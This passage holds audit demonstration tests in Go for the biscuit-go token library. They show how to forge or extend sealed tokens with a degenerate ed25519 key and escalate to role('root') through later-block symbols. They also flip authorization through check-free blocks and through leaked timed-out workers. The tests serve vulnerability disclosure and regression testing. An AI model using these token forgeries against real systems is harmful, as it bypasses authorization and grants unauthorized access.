			t.Errorf("forged token accepted under the all-zero root key after %d attempts", try+1)
			break
		}
	}
}

// Finding 2b: the same inside the chain. A holder announces the neutral element as next key; from then on
// "signed by the key announced in the block before it" and "the seal matches the last announced key" hold for
// anybody: a party that knows no secret at all appends a block to the SEALED token and seals it again.
func TestC01_WeakNextKeyMakesSealAndChainVacuous(t *testing.T) {
	rootPub, rootPriv, _ := ed25519.GenerateKey(rand.Reader)
	holder := c01Token(t, rootPriv, 0)
	hc := c01Container(t, holder)
	holderSecret := ed25519.NewKeyFromSeed(hc.Proof.GetNextSecret())

	// the holder (legitimately owning the next secret) appends a block that announces the weak key, and "seals"
	donor := c01Container(t, c01Token(t, rootPriv, 1)) // only used as a source of well-formed block bytes
	alg := pb.PublicKey_Ed25519
	weak := &pb.SignedBlock{Block: donor.Blocks[0].Block, NextKey: &pb.PublicKey{Algorithm: &alg, Key: c01Neutral}}
	msg := append(append(append([]byte{}, weak.Block...), 0, 0, 0, 0), c01Neutral...)
	weak.Signature = ed25519.Sign(holderSecret, msg)
	hc.Blocks = append(hc.Blocks, weak)
	hc.Proof = &pb.Proof{Content: &pb.Proof_FinalSignature{FinalSignature: c01Universal}}
	sealed, _ := proto.Marshal(hc)
	if accepted, err, _ := c01Verify(sealed, biscuit.WithSingularRootPublicKey(rootPub)); !accepted {
		t.Skipf("the token announcing a weak key is rejected (%v): nothing to show", err)
	}

	// a third party that holds no secret whatsoever now changes the block count of the sealed token
	tc := new(pb.Biscuit)
	if err := proto.Unmarshal(sealed, tc); err != nil {
		t.Fatal(err)
	}
	// it announces the weak key again, so that the seal can again be made without any secret
	extra := &pb.SignedBlock{Block: donor.Blocks[0].Block, NextKey: &pb.PublicKey{Algorithm: &alg, Key: c01Neutral}, Signature: c01Universal}
	tc.Blocks = append(tc.Blocks, extra)
	tc.Proof = &pb.Proof{Content: &pb.Proof_FinalSignature{FinalSignature: c01Universal}}
	extended, _ := proto.Marshal(tc)
	accepted, err, p := c01Verify(extended, biscuit.WithSingularRootPublicKey(rootPub))
	if p != nil {
		t.Fatalf("panic: %v", p)
	}
	if accepted {
		t.Errorf("a sealed token was extended by one block and sealed again by a party holding no private key, and is accepted (blocks: %d -> %d)", len(hc.Blocks), len(tc.Blocks))
	} else {
		t.Logf("rejected: %v", err)
	}
}
