package biscuit_test

// Audit C03 (block scoping) -- demonstration tests.
// Belongs to the repository ROOT directory (package biscuit_test, next to authorizer.go).
// Run with:  go test -run 'TestC03' -count=1 .      (add -race for TestC03_LeakedBlockWorker...)

import (
	"crypto/ed25519"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/parser"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

var c03Generous = biscuit.WithWorldOptions(
	datalog.WithMaxDuration(30*time.Second),
	datalog.WithMaxFacts(100000),
	datalog.WithMaxIterations(1000),
)

func c03Token(t testing.TB, priv ed25519.PrivateKey, authority string, blocks ...string) *biscuit.Biscuit {
	t.Helper()
	b := biscuit.NewBuilder(priv)
	pa, err := parser.FromStringBlock(authority)
	if err != nil {
		t.Fatalf("authority parse: %v", err)
	}
	if err := b.AddBlock(pa); err != nil {
		t.Fatal(err)
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	for _, src := range blocks {
		pb, err := parser.FromStringBlock(src)
		if err != nil {
			t.Fatalf("block parse: %v\n%s", err, src)
		}
		bb := tok.CreateBlock()
		if err := bb.AddBlock(pb); err != nil {
			t.Fatal(err)
		}
		tok, err = tok.Append(rand.Reader, bb.Build())
		if err != nil {
			t.Fatal(err)
		}
	}
	// go through the wire format, like a real verifier
	ser, err := tok.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	tok, err = biscuit.Unmarshal(ser)
	if err != nil {
		t.Fatal(err)
	}
	return tok
}

// outcome class of Authorize
func c03Class(err error) string {
	switch {
	case err == nil:
		return "allow"
	case err == biscuit.ErrPolicyDenied:
		return "deny-policy"
	case err == biscuit.ErrNoMatchingPolicy:
		return "no-policy"
	case strings.HasPrefix(err.Error(), "biscuit: verification failed"):
		return "checks-failed"
	default:
		return "error:" + err.Error()
	}
}

func c03Query(t testing.TB, a biscuit.Authorizer, rule string) []string {
	t.Helper()
	r, err := parser.FromStringRule(rule)
	if err != nil {
		t.Fatalf("rule parse: %v", err)
	}
	fs, err := a.Query(r)
	if err != nil {
		return []string{"error:" + err.Error()}
	}
	out := make([]string, 0, len(fs))
	for _, f := range fs {
		out = append(out, f.String())
	}
	sort.Strings(out)
	return out
}

// ---------------------------------------------------------------------------------------------
// Finding 1: a check-free block decides the outcome of the whole authorization
// ---------------------------------------------------------------------------------------------

// A block that carries NO check turns "allow" into a failure, only through the facts/rules it carries.
func TestC03_CheckFreeBlockChangesOutcome(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	authority := `right("file1", "read"); user(1); user(2);`
	authz := `resource("file1"); operation("read"); allow if right("file1", "read");`

	run := func(blocks ...string) string {
		tok := c03Token(t, priv, authority, blocks...)
		a, err := tok.Authorizer(pub, c03Generous)
		if err != nil {
			t.Fatal(err)
		}
		pa, err := parser.FromStringAuthorizer(authz)
		if err != nil {
			t.Fatal(err)
		}
		a.AddAuthorizer(pa)
		return c03Class(a.Authorize())
	}

	base := run()
	if base != "allow" {
		t.Fatalf("baseline: %s", base)
	}

	cases := map[string]string{
		// rule whose expression cannot be evaluated on an authority fact (string + int)
		"type error in rule": `junk($r) <- resource($r), $r + 1 > 0;`,
		// integer overflow in a rule
		"overflow in rule": `junk($u) <- user($u), $u + 9223372036854775807 > 0;`,
		// division by zero
		"div by zero in rule": `junk($u) <- user($u), $u / 0 == 1;`,
		// a head/expression variable that the body does not bind
		"unbound variable in rule": `cnt(0); cnt($n) <- cnt($m), $n == $m + 1;`,
	}
	for name, blk := range cases {
		// the parser may not accept every form; skip what it rejects
		if _, err := parser.FromStringBlock(blk); err != nil {
			t.Logf("%s: parser rejects (%v), skipped", name, err)
			continue
		}
		got := run(blk)
		if got != base {
			t.Errorf("%s: token alone => %q, token + check-free block {%s} => %q", name, base, blk, got)
		}
		// and the position does not matter: a later honest block does not even get evaluated
		got2 := run(blk, `check if resource("file1");`)
		if got2 != base {
			t.Errorf("%s (followed by a satisfied check block): => %q", name, got2)
		}
	}
}

// Same with the DEFAULT limits and only facts: 1000 facts is the default bound of a world, the block
// world counts the authority-level facts too, so the number of facts a check-free block may carry
// before it kills the request depends on the authority/authorizer content.
func TestC03_CheckFreeFactsOnlyBlockChangesOutcome(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	var auth strings.Builder
	auth.WriteString(`right("file1", "read");`)
	for i := 0; i < 600; i++ {
		fmt.Fprintf(&auth, "a(%d);", i)
	}
	var blk strings.Builder
	for i := 0; i < 450; i++ {
		fmt.Fprintf(&blk, "b(%d);", i)
	}
	authz := `allow if right("file1", "read");`
	long := biscuit.WithWorldOptions(datalog.WithMaxDuration(30 * time.Second)) // default maxFacts (1000)

	run := func(blocks ...string) string {
		tok := c03Token(t, priv, auth.String(), blocks...)
		a, err := tok.Authorizer(pub, long)
		if err != nil {
			t.Fatal(err)
		}
		pa, _ := parser.FromStringAuthorizer(authz)
		a.AddAuthorizer(pa)
		return c03Class(a.Authorize())
	}
	base := run()
	with := run(blk.String())
	if base != with {
		t.Errorf("facts-only check-free block: without => %q, with => %q", base, with)
	}
}

// ---------------------------------------------------------------------------------------------
// Finding 2: the symbols declared by a later block give a meaning to earlier blocks' dangling indexes
// ---------------------------------------------------------------------------------------------

// c03SignAuthority builds a token whose authority block is the given protobuf block, signed by the root key.
func c03SignAuthority(t testing.TB, priv ed25519.PrivateKey, blk *pb.Block) *biscuit.Biscuit {
	t.Helper()
	raw, err := proto.Marshal(blk)
	if err != nil {
		t.Fatal(err)
	}
	nextPub, nextPriv, _ := ed25519.GenerateKey(rand.Reader)
	alg := pb.PublicKey_Ed25519
	algBytes := make([]byte, 4)
	binary.LittleEndian.PutUint32(algBytes, uint32(alg))
	toSign := append(append(append([]byte{}, raw...), algBytes...), nextPub...)
	container := &pb.Biscuit{
		Authority: &pb.SignedBlock{
			Block:     raw,
			NextKey:   &pb.PublicKey{Algorithm: &alg, Key: nextPub},
			Signature: ed25519.Sign(priv, toSign),
		},
		Proof: &pb.Proof{Content: &pb.Proof_NextSecret{NextSecret: nextPriv.Seed()}},
	}
	ser, err := proto.Marshal(container)
	if err != nil {
		t.Fatal(err)
	}
	tok, err := biscuit.Unmarshal(ser)
	if err != nil {
		t.Fatal(err)
	}
	return tok
}

// The authority block holds role(#1025) but declares one symbol only (#1024). Alone, the token is not
// allowed by `allow if role("root")`. A later block that carries no check, whose only effect is to
// declare the symbol "root" (which lands on #1025), turns the authority fact into role("root"): the
// authorizer's policy and the authorizer's query now see it.
func TestC03_LaterBlockSymbolsRewriteAuthorityFact(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)

	u64 := func(v uint64) *uint64 { return &v }
	version := uint32(3)
	ctx := ""
	authority := &pb.Block{
		Symbols: []string{"somebody"}, // #1024
		Context: &ctx,
		Version: &version,
		FactsV2: []*pb.FactV2{{Predicate: &pb.PredicateV2{
			Name:  u64(6), // "role" (default symbol)
			Terms: []*pb.TermV2{{Content: &pb.TermV2_String_{String_: 1025}}},
		}}},
	}
	tok := c03SignAuthority(t, priv, authority)

	eval := func(tok *biscuit.Biscuit) (string, []string) {
		ser, _ := tok.Serialize()
		tok, err := biscuit.Unmarshal(ser)
		if err != nil {
			t.Fatal(err)
		}
		a, err := tok.Authorizer(pub, c03Generous)
		if err != nil {
			t.Fatal(err)
		}
		pa, _ := parser.FromStringAuthorizer(`allow if role("root");`)
		a.AddAuthorizer(pa)
		class := c03Class(a.Authorize())
		return class, c03Query(t, a, `q($r) <- role($r)`)
	}

	class0, q0 := eval(tok)

	// the attenuation: a block without any check
	bb := tok.CreateBlock()
	blk, _ := parser.FromStringBlock(`note("root");`) // terms are converted first: "root" -> #1025, "note" -> #1026
	if err := bb.AddBlock(blk); err != nil {
		t.Fatal(err)
	}
	tok2, err := tok.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	class1, q1 := eval(tok2)

	if class0 != class1 {
		t.Errorf("Authorize: token alone => %q, token + check-free block => %q", class0, class1)
	}
	if fmt.Sprint(q0) != fmt.Sprint(q1) {
		t.Errorf("authorizer query role($r): token alone => %v, token + check-free block => %v", q0, q1)
	}
}

// The same through the public API only: the issuer uses a shared base table (WithSymbols), the verifier
// forgets to pass it to the Unmarshaler. The token is (rightly) useless then -- until its holder appends
// a check-free block that declares the missing strings himself.
func TestC03_LaterBlockSymbolsRewriteAuthorityFact_PublicAPI(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	base := &datalog.SymbolTable{"root", "guest"}

	b := biscuit.NewBuilder(priv, biscuit.WithSymbols(base))
	f, _ := parser.FromStringFact(`role("guest")`) // -> role(#1025), nothing declared in the block
	if err := b.AddAuthorityFact(f); err != nil {
		t.Fatal(err)
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	ser, _ := tok.Serialize()

	eval := func(ser []byte) (string, []string) {
		tok, err := biscuit.Unmarshal(ser) // default table
		if err != nil {
			t.Fatal(err)
		}
		a, err := tok.Authorizer(pub, c03Generous)
		if err != nil {
			t.Fatal(err)
		}
		pa, _ := parser.FromStringAuthorizer(`allow if role("root");`)
		a.AddAuthorizer(pa)
		class := c03Class(a.Authorize())
		return class, c03Query(t, a, `q($r) <- role($r)`)
	}
	class0, q0 := eval(ser)

	held, err := biscuit.Unmarshal(ser)
	if err != nil {
		t.Fatal(err)
	}
	bb := held.CreateBlock()
	blk, _ := parser.FromStringBlock(`note("x", "root");`) // "x" -> #1024, "root" -> #1025 in the holder's view
	bb.AddBlock(blk)
	held2, err := held.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	ser2, _ := held2.Serialize()
	class1, q1 := eval(ser2)

	if class0 != class1 {
		t.Errorf("Authorize: token alone => %q, token + check-free block => %q", class0, class1)
	}
	if fmt.Sprint(q0) != fmt.Sprint(q1) {
		t.Errorf("authorizer query role($r): token alone => %v, token + check-free block => %v", q0, q1)
	}
}

// ---------------------------------------------------------------------------------------------
// Finding 3: World.Clone shares the backing array; the worker of a timed-out block evaluation
// keeps running and writes the block's derived facts into the authorizer's world
// ---------------------------------------------------------------------------------------------

func TestC03_LeakedBlockWorkerWritesIntoAuthorizerWorld(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)

	// 40 authority facts: the authority-level fact slice has len 40, cap 64 once built by append
	var auth strings.Builder
	for i := 0; i < 40; i++ {
		fmt.Fprintf(&auth, "n(%d);", i)
	}
	// block 1: no check, no fact, one rule that needs ~40^4 combinations (seconds)
	blk := `leak($a) <- n($a), n($b), n($c), n($d);`
	tok := c03Token(t, priv, auth.String(), blk)

	a, err := tok.Authorizer(pub, biscuit.WithWorldOptions(
		datalog.WithMaxDuration(100*time.Millisecond), datalog.WithMaxFacts(100000)))
	if err != nil {
		t.Fatal(err)
	}
	pa, _ := parser.FromStringAuthorizer(`allow if true;`)
	a.AddAuthorizer(pa)

	err = a.Authorize()
	if err != datalog.ErrWorldRunLimitTimeout {
		t.Skipf("the block evaluation did not time out on this machine (%v): nothing to show", err)
	}

	// the application goes on with the same authorizer (e.g. adds a fact and asks a question)
	f, _ := parser.FromStringFact(`mine("authorizer")`)
	a.AddFact(f)
	if got := c03Query(t, a, `q($x) <- mine($x)`); len(got) != 1 {
		t.Fatalf("authorizer fact not visible right after AddFact: %v", got)
	}

	// let the abandoned worker finish its rule application
	deadline := time.Now().Add(90 * time.Second)
	for time.Now().Before(deadline) {
		time.Sleep(250 * time.Millisecond)
		leaked := c03Query(t, a, `q($x) <- leak($x)`)
		mine := c03Query(t, a, `q($x) <- mine($x)`)
		if len(leaked) != 0 || len(mine) != 1 {
			t.Errorf("authorizer query sees facts derived by a rule of block 1: leak=%v ; the authorizer's own fact mine(\"authorizer\") => %v", leaked, mine)
			return
		}
	}
}
