// C09 audit demo. Belongs to the repository ROOT package directory (package biscuit_test, next to biscuit.go).
// Every test fails on the unchanged library exactly because the violation described in findings.md is present.
package biscuit_test

import (
	"crypto/ed25519"
	"crypto/rand"
	"testing"

	"github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

func c09Fact(name, v string) biscuit.Fact {
	return biscuit.Fact{Predicate: biscuit.Predicate{Name: name, IDs: []biscuit.Term{biscuit.String(v)}}}
}

// c09Accepts reports whether the serialized token unmarshals and passes signature verification under pub.
func c09Accepts(t *testing.T, ser []byte, pub ed25519.PublicKey) (ok bool, tok *biscuit.Biscuit) {
	defer func() {
		if p := recover(); p != nil {
			t.Errorf("panic: %v", p)
			ok = false
		}
	}()
	tok, err := biscuit.Unmarshal(ser)
	if err != nil {
		return false, nil
	}
	if _, err := tok.AuthorizerFor(biscuit.WithSingularRootPublicKey(pub)); err != nil {
		return false, tok
	}
	return true, tok
}

// Finding 1: a holder of an unsealed token appends a block that announces the identity point (a small-order
// ed25519 public key) as next key. Every signature (R=[s]B, S=s) verifies under that key for every message, so
//   - the "sealed" token is accepted with a seal signature nobody had to compute,
//   - the seal signature can be altered and the token is still accepted,
//   - a party holding no secret at all extends the sealed token and turns it back into an unsealed one.
func TestC09DegenerateLastKey(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := biscuit.NewBuilder(priv)
	b.AddAuthorityFact(c09Fact("user", "alice"))
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	ser, _ := tok.Serialize()
	c := new(pb.Biscuit)
	if err := proto.Unmarshal(ser, c); err != nil {
		t.Fatal(err)
	}

	// the (legitimate) holder signs one more block with the next secret, announcing the identity point
	sk := ed25519.NewKeyFromSeed(c.Proof.GetNextSecret())
	identity := make([]byte, 32)
	identity[0] = 1
	blk, _ := proto.Marshal(&pb.Block{Version: proto.Uint32(3), Context: proto.String("")})
	msg := append(append(append([]byte{}, blk...), 0, 0, 0, 0), identity...)
	alg := pb.PublicKey_Ed25519
	c.Blocks = []*pb.SignedBlock{{Block: blk, NextKey: &pb.PublicKey{Algorithm: &alg, Key: identity}, Signature: ed25519.Sign(sk, msg)}}

	// "seal": s = 0, R = identity. No key is involved.
	forged := make([]byte, 64)
	forged[0] = 1
	c.Proof = &pb.Proof{Content: &pb.Proof_FinalSignature{FinalSignature: forged}}
	out, _ := proto.Marshal(c)
	if ok, _ := c09Accepts(t, out, pub); ok {
		t.Errorf("token whose last announced key is the identity point is accepted with a seal signature nobody had to compute")
	}

	// altered seal signature: s = 1, R = B (the base point)
	forged2 := make([]byte, 64)
	forged2[0] = 0x58
	for i := 1; i < 32; i++ {
		forged2[i] = 0x66
	}
	forged2[32] = 1
	c.Proof = &pb.Proof{Content: &pb.Proof_FinalSignature{FinalSignature: forged2}}
	out2, _ := proto.Marshal(c)
	if ok, _ := c09Accepts(t, out2, pub); ok {
		t.Errorf("the same token with an ALTERED seal signature is accepted as well")
	}

	// extension by a stranger: the block signature under the identity key is the constant `forged`
	_, strangerKey, _ := ed25519.GenerateKey(rand.Reader)
	extra, _ := proto.Marshal(&pb.Block{Version: proto.Uint32(3), Context: proto.String("added by a stranger")})
	c.Blocks = append(c.Blocks, &pb.SignedBlock{Block: extra, NextKey: &pb.PublicKey{Algorithm: &alg, Key: strangerKey.Public().(ed25519.PublicKey)}, Signature: forged})
	c.Proof = &pb.Proof{Content: &pb.Proof_NextSecret{NextSecret: strangerKey.Seed()}}
	out3, _ := proto.Marshal(c)
	if ok, ext := c09Accepts(t, out3, pub); ok {
		t.Errorf("a party holding no secret extended the sealed token to %d blocks and un-sealed it", ext.BlockCount())
		if _, err := ext.Append(rand.Reader, ext.CreateBlock().Build()); err == nil {
			t.Errorf("... and the library's own Append now extends it further")
		}
	}
}

// Finding 2: the sealed token is not frozen with respect to its parent: both share the signature byte slices that
// RevocationIds() hands out. Writing into the identifiers returned by the SEALED token invalidates the ORIGINAL
// (and the other way round).
func TestC09RevocationIdsAliasSealedAndOriginal(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := biscuit.NewBuilder(priv)
	b.AddAuthorityFact(c09Fact("user", "alice"))
	tok, _ := b.Build()
	sealed, err := tok.Seal(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tok.Authorizer(pub); err != nil {
		t.Fatal(err)
	}
	ids := sealed.RevocationIds()
	ids[0][0] ^= 1 // e.g. a caller normalising / reusing the buffer it was given
	if _, err := tok.Authorizer(pub); err != nil {
		t.Errorf("writing into the slice returned by sealed.RevocationIds() broke the ORIGINAL token: %v", err)
	}
	ids[0][0] ^= 1

	ids = tok.RevocationIds()
	ids[0][0] ^= 1
	if _, err := sealed.Authorizer(pub); err != nil {
		t.Errorf("writing into the slice returned by original.RevocationIds() broke the SEALED token: %v", err)
	}
	ids[0][0] ^= 1
}

// Finding 3: Seal copies the *uint32 root key id pointer of the parent (biscuit.go, container clone in Seal), and
// RootKeyID() returns that very pointer: writing through it on the sealed token re-keys the original.
func TestC09RootKeyIDAliasSealedAndOriginal(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	other, _, _ := ed25519.GenerateKey(rand.Reader)
	b := biscuit.NewBuilder(priv, biscuit.WithRootKeyID(1))
	b.AddAuthorityFact(c09Fact("user", "alice"))
	tok, _ := b.Build()
	sealed, err := tok.Seal(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	src := biscuit.WithRootPublicKeys(map[uint32]ed25519.PublicKey{1: pub, 2: other}, nil)
	if _, err := tok.AuthorizerFor(src); err != nil {
		t.Fatal(err)
	}
	*sealed.RootKeyID() = 2
	if id := tok.RootKeyID(); *id != 1 {
		t.Errorf("writing through sealed.RootKeyID() changed the ORIGINAL token's root key id to %d", *id)
	}
	if _, err := tok.AuthorizerFor(src); err != nil {
		t.Errorf("the original no longer verifies under the same key source: %v", err)
	}
}
