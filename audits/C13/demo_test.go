// Belongs to the repository root directory (package biscuit_test, next to authorizer.go).
package biscuit_test

import (
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"runtime"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/datalog"
)

// c13BaseFacts is a datalog.WorldOption (exported func type over the exported *World, which has an
// exported AddFact): it gives the authorizer a base world that already holds n facts resource(0) ..
// resource(n-1). "resource" is one of the default symbols (same index in every symbol table), so the
// facts mean the same thing in every round. With n = 100 the fact slice of the base world has
// len 100 / cap 128: spare capacity that every World.Clone() shares.
func c13BaseFacts(n int) datalog.WorldOption {
	return func(w *datalog.World) {
		name := (&datalog.SymbolTable{}).Insert("resource")
		for i := 0; i < n; i++ {
			w.AddFact(datalog.Fact{Predicate: datalog.Predicate{
				Name:  name,
				Terms: []datalog.Term{datalog.Integer(i)},
			}})
		}
	}
}

func c13Token(t *testing.T) (*biscuit.Biscuit, ed25519.PublicKey) {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	b, err := biscuit.NewBuilder(priv).Build()
	if err != nil {
		t.Fatal(err)
	}
	return b, pub
}

func c13Pred(name string, ids ...biscuit.Term) biscuit.Predicate {
	return biscuit.Predicate{Name: name, IDs: ids}
}

// the content of round 2, given identically to the reused and to the fresh authorizer
func c13Round2(a biscuit.Authorizer) {
	a.AddFact(biscuit.Fact{Predicate: c13Pred("user", biscuit.Integer(42))})
}

// TestC13ResetLeakThroughSharedBaseCapacity:
//
//	round 1: a rule whose evaluation exceeds the deadline -> Query returns the timeout error, but the
//	         World.Run worker goroutine keeps evaluating (it only looks at the deadline between rules)
//	Reset
//	round 2: one fact user(42); then queries / Authorize
//
// The world of round 1 and the world of round 2 are both baseWorld.Clone(), and Clone copies the slice
// header only, so both append into the same spare capacity of the base world's fact array. When the
// stale worker of round 1 finally inserts its derived fact operation(0), it lands in slot 100 of that
// array, which is exactly where round 2 stored user(42): round 2's fact is replaced by a fact derived
// from round 1's rule.
func TestC13ResetLeakThroughSharedBaseCapacity(t *testing.T) {
	const n = 100
	opts := biscuit.WithWorldOptions(
		c13BaseFacts(n),
		datalog.WithMaxDuration(100*time.Millisecond),
		datalog.WithMaxFacts(100000),
	)
	b, pub := c13Token(t)

	reused, err := b.Authorizer(pub, opts)
	if err != nil {
		t.Fatal(err)
	}
	baseline := runtime.NumGoroutine()

	// ---- round 1: operation($a) <- resource($a), resource($b), resource($c), $a + $b + $c == 0
	// a million combinations, exactly one of which (0,0,0) is true
	va, vb, vc := biscuit.Variable("a"), biscuit.Variable("b"), biscuit.Variable("c")
	reused.AddRule(biscuit.Rule{
		Head: c13Pred("operation", va),
		Body: []biscuit.Predicate{c13Pred("resource", va), c13Pred("resource", vb), c13Pred("resource", vc)},
		Expressions: []biscuit.Expression{{
			biscuit.Value{Term: va}, biscuit.Value{Term: vb}, biscuit.BinaryAdd,
			biscuit.Value{Term: vc}, biscuit.BinaryAdd,
			biscuit.Value{Term: biscuit.Integer(0)}, biscuit.BinaryEqual,
		}},
	})
	_, err = reused.Query(biscuit.Rule{
		Head: c13Pred("q", va),
		Body: []biscuit.Predicate{c13Pred("operation", va)},
	})
	if !errors.Is(err, datalog.ErrWorldRunLimitTimeout) {
		t.Skipf("round 1 did not time out (err=%v): machine too fast for this schedule, nothing demonstrated", err)
	}

	// ---- reset, round 2
	reused.Reset()
	c13Round2(reused)

	// let the abandoned worker of round 1 finish (a correct library has none, or one that cannot
	// reach the new world)
	deadline := time.Now().Add(90 * time.Second)
	for runtime.NumGoroutine() > baseline && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	if runtime.NumGoroutine() > baseline {
		t.Logf("worker of round 1 still running after 90s; results below may not show the leak")
	}

	fresh, err := b.Authorizer(pub, opts)
	if err != nil {
		t.Fatal(err)
	}
	c13Round2(fresh)

	vx := biscuit.Variable("x")
	for _, q := range []struct {
		what string
		rule biscuit.Rule
	}{
		{"user($x)", biscuit.Rule{Head: c13Pred("q", vx), Body: []biscuit.Predicate{c13Pred("user", vx)}}},
		{"operation($x)", biscuit.Rule{Head: c13Pred("q", vx), Body: []biscuit.Predicate{c13Pred("operation", vx)}}},
	} {
		got, err1 := reused.Query(q.rule)
		want, err2 := fresh.Query(q.rule)
		if err1 != nil || err2 != nil {
			t.Fatalf("query %s: reused err=%v fresh err=%v", q.what, err1, err2)
		}
		if got.String() != want.String() {
			t.Errorf("query %s after Reset: reused authorizer answers %v, fresh authorizer answers %v",
				q.what, got, want)
		}
	}

}

// TestC13ResetLeakFlipsAuthorize is the same schedule observed through Authorize: round 2 holds no
// rule at all and a policy "allow if operation(0)"; a fresh authorizer answers ErrNoMatchingPolicy, the
// reused one allows, because operation(0) derived from round 1's rule was written into its world
// after the Reset.
func TestC13ResetLeakFlipsAuthorize(t *testing.T) {
	const n = 100
	opts := biscuit.WithWorldOptions(
		c13BaseFacts(n),
		datalog.WithMaxDuration(100*time.Millisecond),
		datalog.WithMaxFacts(100000),
	)
	b, pub := c13Token(t)

	reused, err := b.Authorizer(pub, opts)
	if err != nil {
		t.Fatal(err)
	}
	baseline := runtime.NumGoroutine()

	va, vb, vc := biscuit.Variable("a"), biscuit.Variable("b"), biscuit.Variable("c")
	reused.AddRule(biscuit.Rule{
		Head: c13Pred("operation", va),
		Body: []biscuit.Predicate{c13Pred("resource", va), c13Pred("resource", vb), c13Pred("resource", vc)},
		Expressions: []biscuit.Expression{{
			biscuit.Value{Term: va}, biscuit.Value{Term: vb}, biscuit.BinaryAdd,
			biscuit.Value{Term: vc}, biscuit.BinaryAdd,
			biscuit.Value{Term: biscuit.Integer(0)}, biscuit.BinaryEqual,
		}},
	})
	reused.AddPolicy(biscuit.DefaultAllowPolicy)
	err = reused.Authorize()
	if !errors.Is(err, datalog.ErrWorldRunLimitTimeout) {
		t.Skipf("round 1 did not time out (err=%v): machine too fast for this schedule, nothing demonstrated", err)
	}

	policy := biscuit.Policy{Kind: biscuit.PolicyKindAllow, Queries: []biscuit.Rule{{
		Head: c13Pred("allow"),
		Body: []biscuit.Predicate{c13Pred("operation", biscuit.Integer(0))},
	}}}

	reused.Reset()
	c13Round2(reused)
	reused.AddPolicy(policy)

	deadline := time.Now().Add(90 * time.Second)
	for runtime.NumGoroutine() > baseline && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}

	fresh, err := b.Authorizer(pub, opts)
	if err != nil {
		t.Fatal(err)
	}
	c13Round2(fresh)
	fresh.AddPolicy(policy)

	got, want := reused.Authorize(), fresh.Authorize()
	if (got == nil) != (want == nil) || (got != nil && got.Error() != want.Error()) {
		t.Errorf("Authorize after Reset: reused authorizer returns %v, fresh authorizer returns %v", got, want)
	}
}
