package biscuit_test

// C07 audit: wire fidelity. Belongs to the repository root (package directory of
// github.com/biscuit-auth/biscuit-go/v2), external test package biscuit_test.

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/parser"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

// ---------------------------------------------------------------------------
// independent reader: decodes the token bytes with the generated protobuf types
// only, resolves symbols with a plain cumulative table (default < 1024, block
// tables appended in order, no de-duplication) and renders canonical text.
// ---------------------------------------------------------------------------

var defaultSyms = datalog.DEFAULT_SYMBOLS[:]

type wireBlock struct {
	Symbols []string
	Context string
	Version uint32
	Facts   []string
	Rules   []string
	Checks  []string
}

func resolve(table []string, idx uint64) string {
	if idx < 1024 {
		if int(idx) < len(defaultSyms) {
			return defaultSyms[idx]
		}
		return fmt.Sprintf("<UNRESOLVED %d>", idx)
	}
	if idx-1024 < uint64(len(table)) {
		return table[idx-1024]
	}
	return fmt.Sprintf("<UNRESOLVED %d>", idx)
}

func wireTerm(table []string, t *pb.TermV2) string {
	switch c := t.Content.(type) {
	case *pb.TermV2_Variable:
		return "$" + resolve(table, uint64(c.Variable))
	case *pb.TermV2_Integer:
		return fmt.Sprintf("%d", c.Integer)
	case *pb.TermV2_String_:
		return fmt.Sprintf("%q", resolve(table, c.String_))
	case *pb.TermV2_Date:
		return fmt.Sprintf("date:%d", int64(c.Date))
	case *pb.TermV2_Bytes:
		return "hex:" + hex.EncodeToString(c.Bytes)
	case *pb.TermV2_Bool:
		return fmt.Sprintf("%t", c.Bool)
	case *pb.TermV2_Set:
		elts := []string{}
		for _, e := range c.Set.Set {
			elts = append(elts, wireTerm(table, e))
		}
		return "[" + strings.Join(elts, ", ") + "]"
	}
	return "<no content>"
}

func wirePred(table []string, p *pb.PredicateV2) string {
	terms := []string{}
	for _, t := range p.Terms {
		terms = append(terms, wireTerm(table, t))
	}
	return fmt.Sprintf("%s(%s)", resolve(table, p.GetName()), strings.Join(terms, ", "))
}

func wireExpr(table []string, e *pb.ExpressionV2) string {
	ops := []string{}
	for _, op := range e.Ops {
		switch c := op.Content.(type) {
		case *pb.Op_Value:
			ops = append(ops, wireTerm(table, c.Value))
		case *pb.Op_Unary:
			ops = append(ops, "U:"+c.Unary.GetKind().String())
